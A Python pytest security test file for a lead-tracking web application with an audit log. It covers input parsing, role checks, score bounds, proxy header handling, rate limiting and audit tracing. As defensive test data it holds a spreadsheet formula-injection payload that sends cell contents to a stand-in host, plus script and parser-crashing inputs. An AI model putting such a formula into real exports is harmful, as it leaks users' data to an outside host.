"""What an attacker with an account found in the web application (issue 10).

Parsers first (no database), then the application on both engines.
"""

from __future__ import annotations

import csv
import io
import ipaddress
import re
import warnings
from dataclasses import replace
from datetime import date
from typing import Any
from urllib.parse import parse_qsl

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine, func, select

from atalaya.audit.log import AuditQuery, read_records
from atalaya.audit.shown import shown_ranges
from atalaya.audit.verify import verify
from atalaya.leads.charts import chart_window
from atalaya.leads.export import CSV_HEADER, csv_parts
from atalaya.store.tables import lead_override
from atalaya.web.app import create_app
from atalaya.web.filters import FilterError, parse_filters
from atalaya.web.security import forwarded_client, parse_trusted_proxies
from tests.web.conftest import BASE, form_csrf, login_csrf, sign_in, web_settings
from tests.web.seed import FAST, NOW, PASSWORD, PREFIX, lead_ids_by_ip

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

TODAY = date(2026, 11, 20)
W46 = "week=2026-W46"
SECURITY_HEADERS = (
    "content-security-policy",
    "x-content-type-options",
    "x-frame-options",
    "referrer-policy",
    "cache-control",
)
# Each of these answered 500 (OverflowError, ValueError) before.
BAD_QUERIES = (
    "to=9999-12-31",
    "from=9999-12-25&to=9999-12-31",
    "to=0001-01-01",
    "from=0001-01-01&to=0001-01-03",
    "week=9999-W52",
    "week=0001-W01",
    "page=%C2%B2",  # "²": str.isdigit() says yes, int() says no
    "page=000000" + "1" * 4_394,  # int() refuses more than 4,300 digits
    "province=%D9%A2%D9%A8",  # Arabic-Indic "28": \\d matches it
)


@pytest.mark.parametrize("query", BAD_QUERIES)
def test_bad_parameters_are_filter_errors(query: str) -> None:
    with pytest.raises(FilterError):
        parse_filters(dict(parse_qsl(query)), today=TODAY)


EDGES = (
    date.min,
    date(1, 1, 3),
    date(1969, 12, 31),
    date(3000, 1, 1),
    date(9999, 12, 25),
    date.max,
)


def _dates_text() -> st.SearchStrategy[str]:
    return (st.sampled_from(EDGES) | st.dates()).map(date.isoformat)


def _weeks_text() -> st.SearchStrategy[str]:
    return st.builds(lambda y, w: f"{y:04d}-W{w:02d}", st.integers(1, 9999), st.integers(0, 60))


def _digits() -> st.SearchStrategy[str]:
    return st.text(st.characters(categories=("Nd", "No")), min_size=1, max_size=12) | st.integers(
        0, 10**30
    ).map(str)


@given(
    st.fixed_dictionaries(
        {},
        optional={
            "from": _dates_text(),
            "to": _dates_text(),
            "week": _weeks_text(),
            "page": _digits(),
            "province": _digits(),
            "municipality": _digits(),
        },
    ),
    st.dates(date(1970, 1, 1), date(2999, 12, 31)),
)
def test_any_window_is_a_filter_error_or_a_window_every_page_can_use(
    params: dict[str, str], today: date
) -> None:
    try:
        flt = parse_filters(params, today=today)
    except FilterError:
        return
    # What the pages compute from a window must not fail either.
    assert flt.start < flt.end
    first, last = chart_window(flt)
    assert first <= flt.since and last >= flt.until
    assert parse_filters(flt.params(), today=today) == flt


def _has_security_headers(answer: Any) -> bool:
    return all(name in answer.headers for name in SECURITY_HEADERS)


def test_a_failure_inside_the_application_answers_500_with_headers_and_is_audited(
    app: Any, world: Engine
) -> None:
    with TestClient(app, base_url=BASE, raise_server_exceptions=False) as client:
        assert sign_in(client, "ana").status_code == 303
        # What a crash looks like from outside: a table the page needs is gone.
        with world.begin() as conn:
            conn.exec_driver_sql("ALTER TABLE lead RENAME TO lead_gone")
        answer = client.get("/?week=2026-W46")
    assert answer.status_code == 500
    assert _has_security_headers(answer)
    assert answer.headers["cache-control"] == "no-store"
    assert "Traceback" not in answer.text and "lead_gone" not in answer.text
    with world.connect() as conn:
        last = read_records(conn, AuditQuery(newest_first=True, limit=1))[0].fields
    assert (last.action, last.outcome, last.username) == ("request", "error", "ana")
    assert last.object_id == "/" and last.details["query"] == "week=2026-W46"
    assert last.details["method"] == "GET"
    assert verify(world).ok


def test_a_role_that_may_not_change_leads_cannot_probe_which_leads_its_unit_holds(
    client_for: Any, world: Engine
) -> None:
    """The override answered 403 for a lead the unit holds and 404 for any other."""
    carla = client_for("carla")  # auditor of the Madrid unit
    token = form_csrf(carla.get("/audit").text)
    by_ip = lead_ids_by_ip(world)
    held, foreign = by_ip[f"{PREFIX}.10"], by_ip[f"{PREFIX}.11"]  # Madrid's, Barcelona's
    missing = max(by_ip.values()) + 1000
    answers = [
        carla.post(
            f"/leads/{lead_id}/override",
            data={"score": "90", "reason": "probe", "csrf": token},
            follow_redirects=False,
        )
        for lead_id in (held, foreign, missing)
    ]
    assert [a.status_code for a in answers] == [403, 403, 403]
    assert len({a.text for a in answers}) == 1
    changes = _changes(world)
    assert [(c.object_id, c.outcome, c.details["reason"]) for c in changes] == [
        (str(held), "denied", "role"),
        (str(foreign), "denied", "role"),
        (str(missing), "denied", "role"),
    ]


def _changes(engine: Engine) -> list[Any]:
    with engine.connect() as conn:
        return [e.fields for e in read_records(conn, AuditQuery(action="change"))]


def test_override_scores_are_bounded_to_0_100(client_for: Any, world: Engine) -> None:
    ana = client_for("ana")
    lead_id = lead_ids_by_ip(world)[f"{PREFIX}.10"]
    token = form_csrf(ana.get(f"/leads/{lead_id}").text)
    for score in ("1e308", "-5", "100000", "100.001", "-0.5", "nan", "inf", "1e999"):
        answer = ana.post(
            f"/leads/{lead_id}/override",
            data={"score": score, "reason": "typed in a hurry", "csrf": token},
            follow_redirects=False,
        )
        assert answer.status_code == 400, score
        assert "the score must be" in answer.text
    with world.connect() as conn:
        assert conn.scalar(select(func.count()).select_from(lead_override)) == 0
    for score in ("0", "100", "55.5"):
        answer = ana.post(
            f"/leads/{lead_id}/override",
            data={"score": score, "reason": "checked by hand", "csrf": token},
            follow_redirects=False,
        )
        assert answer.status_code == 303, score
    with world.connect() as conn:
        kept = conn.execute(select(lead_override.c.score).order_by(lead_override.c.id)).scalars()
        assert list(kept) == [0.0, 100.0, 55.5]


def test_web_csv_export_neutralises_formulas() -> None:
    record = {name: None for name in CSV_HEADER} | {
        "id": 1,
        "isp": '=HYPERLINK("http://x.example/?"&B2&C2, "open")',
        "municipality_name": "+34 900",
        "lon": -3.7,
        "networks": ["bittorrent"],
        "flags": [],
    }
    rows = list(csv.DictReader(io.StringIO("".join(csv_parts([record])))))
    assert rows[0]["isp"] == "'" + record["isp"]
    assert rows[0]["municipality_name"] == "'+34 900"
    assert rows[0]["lon"] == "-3.7"


PROXY = "127.0.0.9"
TRUSTED = parse_trusted_proxies(f"{PROXY}, fd00::/64")


@pytest.mark.parametrize(
    ("peer", "header", "credited"),
    [
        (PROXY, ["100.64.0.7"], "100.64.0.7"),
        (PROXY, ["100.64.0.7:51000"], "100.64.0.7"),
        (PROXY, ["[fd00:1::7]:443"], "fd00:1::7"),
        # What the client wrote stays left of what the proxy appended.
        (PROXY, ["127.0.0.1, 100.64.0.7"], "100.64.0.7"),
        (PROXY, ["127.0.0.1", "100.64.0.7"], "100.64.0.7"),
        # A chain of trusted proxies is walked through.
        (PROXY, ["100.64.0.7, fd00::2"], "100.64.0.7"),
        # Junk is never taken for an address.
        (PROXY, ["<script>"], PROXY),
        (PROXY, ["100.64.0.7, fd00::2, nonsense"], PROXY),
        (PROXY, [""], PROXY),
        (PROXY, [], PROXY),
        (PROXY, ["100.64.0.7, " * 2000], PROXY),
        # Anyone else's header is ignored.
        ("127.0.0.10", ["100.64.0.7"], "127.0.0.10"),
        ("testclient", ["100.64.0.7"], "testclient"),
    ],
)
def test_forwarded_client(peer: str, header: list[str], credited: str) -> None:
    assert forwarded_client(peer, header, TRUSTED) == credited


@given(st.lists(st.text(max_size=80), max_size=4))
def test_forwarded_client_is_the_proxy_or_an_address(header: list[str]) -> None:
    credited = forwarded_client(PROXY, header, TRUSTED)
    assert credited == PROXY or ipaddress.ip_address(credited)


@pytest.mark.parametrize("text", ["", " , ", "localhost", "10.0.0.0/33", "127.0.0.1, nope"])
def test_bad_trusted_proxy_settings_are_refused(text: str) -> None:
    with pytest.raises(ValueError):
        parse_trusted_proxies(text)


def test_behind_a_trusted_proxy_logins_and_the_audit_log_see_the_real_client(
    world: Engine,
) -> None:
    settings = replace(
        web_settings(),
        secure_cookies=True,
        trusted_proxies=TRUSTED,
        policy=replace(FAST, rate_limit_failures=2),
    )
    app = create_app(world, settings, clock=lambda: NOW)
    https = "https://127.0.0.1"

    def attempt(client: TestClient, real: str, password: str) -> int:
        csrf = login_csrf(client)
        return int(
            client.post(
                "/login",
                data={"username": "ana", "password": password, "csrf": csrf},
                headers={"X-Forwarded-For": real},
                follow_redirects=False,
            ).status_code
        )

    with TestClient(app, base_url=https, client=(PROXY, 40000)) as proxy:
        answer = proxy.get("/login")
        assert answer.headers["strict-transport-security"] == "max-age=31536000"
        # One attacker behind the proxy is throttled…
        assert [attempt(proxy, "100.64.0.66", "not the password") for _ in range(3)] == [
            401,
            401,
            429,
        ]
        # …and everyone else behind it still signs in.
        assert attempt(proxy, "100.64.0.7", PASSWORD) == 303
    # A client that is not the proxy cannot claim another address.
    with TestClient(app, base_url=https, client=("127.0.0.10", 40000)) as direct:
        assert attempt(direct, "100.64.0.8", "not the password") == 401
    with world.connect() as conn:
        logins = read_records(conn, AuditQuery())
    assert [(e.fields.action, e.fields.client_address) for e in logins] == [
        ("login_failed", "100.64.0.66"),
        ("login_failed", "100.64.0.66"),
        ("login_failed", "100.64.0.66"),
        ("login", "100.64.0.7"),
        ("login_failed", "127.0.0.10"),
    ]


def test_no_hsts_without_secure_cookies(anonymous: TestClient) -> None:
    assert "strict-transport-security" not in anonymous.get("/login").headers


def test_a_units_auditor_sees_only_its_units_records(client_for: Any, world: Engine) -> None:
    client_for("bea")  # Barcelona signs in
    client_for("ana")  # Madrid signs in
    page = client_for("carla").get("/audit")  # Madrid's auditor
    assert page.status_code == 200
    assert ">ana<" in page.text and ">carla<" in page.text
    assert ">bea<" not in page.text and "Barcelona" not in page.text


def test_who_saw_a_lead_can_be_answered(client_for: Any, world: Engine) -> None:
    """Searches, map views and exports recorded filters and a count, not which leads."""
    ana = client_for("ana")
    listed = [int(x) for x in re.findall(r'data-lead-id="(\d+)"', ana.get(f"/?{W46}").text)]
    mapped = [p[0] for p in ana.get(f"/api/map?{W46}").json()["points"]]
    page = [r["id"] for r in ana.get(f"/api/leads?{W46}").json()["leads"]]
    exported = [
        int(r["id"]) for r in csv.DictReader(io.StringIO(ana.get(f"/export?{W46}&format=csv").text))
    ]
    assert listed and mapped and page and exported
    with world.connect() as conn:
        search, map_query, api_search, export = read_records(
            conn, AuditQuery(object_type="leads", newest_first=False)
        )
    for entry, ids in (
        (search, listed),
        (map_query, mapped),
        (api_search, page),
        (export, exported),
    ):
        ranges = shown_ranges(entry.fields.details)
        assert ranges is not None, entry.fields.action
        assert {i for low, high in ranges for i in range(low, high + 1)} == set(ids)
    # Who saw this lead: every record that showed it, and only those.
    target = listed[0]
    ana.get(f"/leads/{target}")
    with world.connect() as conn:
        saw = read_records(conn, AuditQuery(lead_id=target))
        other = read_records(conn, AuditQuery(lead_id=max(lead_ids_by_ip(world).values()) + 1))
    assert [(e.fields.action, e.fields.username) for e in saw] == [
        ("search", "ana"),
        ("map_query", "ana"),
        ("search", "ana"),
        ("export", "ana"),
        ("view", "ana"),
    ]
    assert other == []
